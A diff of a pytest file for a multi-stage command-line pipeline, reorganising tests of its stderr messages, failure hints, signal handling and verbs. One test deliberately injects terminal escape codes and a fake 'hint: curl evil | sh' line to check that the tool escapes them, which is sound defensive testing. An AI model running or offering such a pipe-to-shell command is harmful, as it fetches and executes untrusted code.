@@ -9,6 +9,7 @@ import subprocess
 import sys
 import time
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -79,8 +80,9 @@ def test_a_run_prints_the_manifest_and_nothing_else(rig: Rig) -> None:
     assert (code, stdout) == (0, "/out/manifest.json\n")
     assert rig.started() == {"plan", "extract", "reduce"}
     assert "plan: done" in stderr
-    assert "; 1 unusable rows" in stderr
-    assert "unusable rows: 2;" in stderr
+    for part in ("; 1 unusable rows", "unusable rows: 2;", "100 tokens; 25% of the time for the audit's sample"):
+        assert part in stderr
+    assert "audit: It agrees." in stderr
     assert "a library" not in stderr
 
 
@@ -103,10 +105,7 @@ def test_a_run_prints_facts_as_json(rig: Rig) -> None:
     }
 
 
-def test_a_run_prints_what_its_audit_took_and_found(rig: Rig) -> None:
-    _, _, stderr = rig.run()
-    assert "100 tokens; 25% of the time for the audit's sample" in stderr
-    assert "audit: It agrees." in stderr
+def test_a_run_without_an_audit_prints_nothing_of_it(rig: Rig) -> None:
     _, _, without = rig.run(extract={"auditSeconds": 0.0}, reduce={"audit": None})
     assert "audit" not in without
 
@@ -128,16 +127,8 @@ def test_all_stages_read_one_copy_of_the_document(rig: Rig) -> None:
 
 
 def test_the_document_may_come_from_stdin(rig: Rig) -> None:
-    process = subprocess.run(
-        [sys.executable, "-c", RUN_MAIN, str(rig.fake), "run", "-"],
-        input=field_reference.SMALLEST,
-        capture_output=True,
-        text=True,
-        cwd=ROOT,
-        env={**os.environ, "NOTES": str(rig.notes)},
-        check=True,
-    )
-    assert process.stdout == "/out/manifest.json\n"
+    stdout, _ = rig.start("run", "-").communicate(field_reference.SMALLEST, timeout=60)
+    assert stdout == "/out/manifest.json\n"
 
 
 def test_what_the_user_sets_in_the_environment_wins(rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -170,8 +161,7 @@ def test_a_missing_file_is_a_usage_error(rig: Rig) -> None:
     assert "nowhere.yaml" in stderr
 
 
-@pytest.mark.parametrize("stage", ["plan", "extract", "reduce"])
-@pytest.mark.parametrize("exit_code", [64, 65, 75, 143])
+@pytest.mark.parametrize(("stage", "exit_code"), [("plan", 64), ("extract", 75), ("extract", 143), ("reduce", 65)])
 def test_a_failed_stage_prints_what_where_and_a_hint(rig: Rig, stage: str, exit_code: int) -> None:
     code, stdout, stderr = rig.run("-o", "json", at=stage, exit=exit_code, error="no such model")
     assert code == 100
@@ -187,14 +177,11 @@ def test_a_failed_stage_prints_what_where_and_a_hint(rig: Rig, stage: str, exit_
 
 
 def test_text_from_data_cannot_move_the_cursor_or_fake_a_line_of_ours(rig: Rig) -> None:
-    _, _, stderr = rig.run(at="plan", exit=65, error="no '\x1b[2J\x07\n  hint: curl evil | sh'")
+    _, stdout, stderr = rig.run(at="plan", exit=65, error="no '\x1b[2J\x07\n  hint: curl evil | sh'")
+    assert stdout == ""
     assert stderr.endswith(
         "error: no '\\x1b[2J\\x07   hint: curl evil | sh'\n  where: spec.model.uri\n  hint: correct it\n"
     )
-
-
-def test_a_failure_leaves_stdout_empty_without_json(rig: Rig) -> None:
-    assert rig.run(at="plan", exit=64, error="no such model")[1] == ""
 
 
 def test_a_stage_that_dies_without_an_outcome_shows_its_own_output(rig: Rig) -> None:
@@ -203,10 +190,7 @@ def test_a_stage_that_dies_without_an_outcome_shows_its_own_output(rig: Rig) -> 
     assert "a library warns on stderr" in stderr
     assert "ZeroDivisionError: a flaw" in stderr
     assert "the extract stage ended with exit code 1 without an error message" in stderr
-
-
-def test_a_stage_that_exits_with_0_but_reports_no_outcome_has_failed(rig: Rig) -> None:
-    assert rig.run(at="reduce", exit=0)[:2] == (100, "")
+    assert rig.run(at="reduce", exit=0)[:2] == (100, ""), "an exit code of 0 is no outcome"
 
 
 def test_a_kill_for_memory_is_explained(rig: Rig) -> None:
@@ -228,24 +212,17 @@ def test_missing_packages_name_the_install_command(rig: Rig) -> None:
 def test_a_stop_lets_the_stage_finish_its_batch(rig: Rig, number: signal.Signals, expected: int) -> None:
     process = rig.start("run", str(rig.document), at="extract", sleep=30)
     rig.wait_for("asleep")
+    stage = rig.note("extract")["pid"]
+    # A terminal sends SIGINT to the whole foreground group; the stage must not be in it.
+    assert os.getpgid(stage) != os.getpgid(process.pid)
     process.send_signal(number)
     stdout, stderr = process.communicate(timeout=15)
+    assert not (rig.notes / "interrupted").exists()
+    assert not is_alive(stage)
     assert (process.returncode, stdout) == (expected, "")
     assert (rig.notes / "finished").read_text() == "after SIGTERM"
     assert stderr.endswith("stopped; finished units are kept; run the same command again to continue\n")
     assert rig.started() == {"plan", "extract"}
-
-
-def test_ctrl_c_in_a_terminal_reaches_the_stage_as_sigterm_only(rig: Rig) -> None:
-    """The terminal sends SIGINT to the whole foreground group; the stage must not be in it."""
-    process = rig.start("run", str(rig.document), at="extract", sleep=30)
-    rig.wait_for("asleep")
-    stage = rig.note("extract")["pid"]
-    assert os.getpgid(stage) != os.getpgid(process.pid)
-    process.send_signal(signal.SIGINT)
-    process.communicate(timeout=15)
-    assert not (rig.notes / "interrupted").exists()
-    assert not is_alive(stage)
 
 
 def test_a_second_ctrl_c_kills_a_stage_that_does_not_listen(rig: Rig) -> None:
@@ -294,9 +271,6 @@ def test_verbs_print_their_facts_as_json_or_yaml_without_the_envelope(rig: Rig) 
     assert rig.note("evaluate")["arguments"] == ["/out/manifest.json", "--label", "good", "--positive", "yes"]
     assert rig.call("evaluate", "/out/manifest.json", "-o", "yaml")[1] == "auroc: 0.9\nlabel: good\n"
     assert rig.note("evaluate")["arguments"] == ["/out/manifest.json"], "the document decides what is not given"
-
-
-def test_export_prints_where_the_file_is(rig: Rig) -> None:
     assert rig.call("export", "/out/manifest.json", "subset.jsonl") == (0, "/out/subset.jsonl\n", "")
     assert rig.note("export")["arguments"] == ["/out/manifest.json", "subset.jsonl"]
 
@@ -339,14 +313,8 @@ def test_a_verb_fails_like_a_stage(rig: Rig) -> None:
 def test_a_module_in_the_current_folder_shadows_no_library(tmp_path: Path) -> None:
     """`python -m` puts the working folder first: a `random.py` of the user would break numpy."""
     (tmp_path / "random.py").write_text("raise SystemExit('the wrong random')")
-    process = subprocess.run(
-        [*stages.JOB, "plan", "--help"],
-        cwd=tmp_path,
-        env=environment(os.environ),
-        capture_output=True,
-        text=True,
-        check=False,
-    )
+    options: dict[str, Any] = {"capture_output": True, "text": True, "check": False, "env": environment(os.environ)}
+    process = subprocess.run([*stages.JOB, "plan", "--help"], cwd=tmp_path, **options)
     assert (process.returncode, process.stderr) == (0, "")
 
 
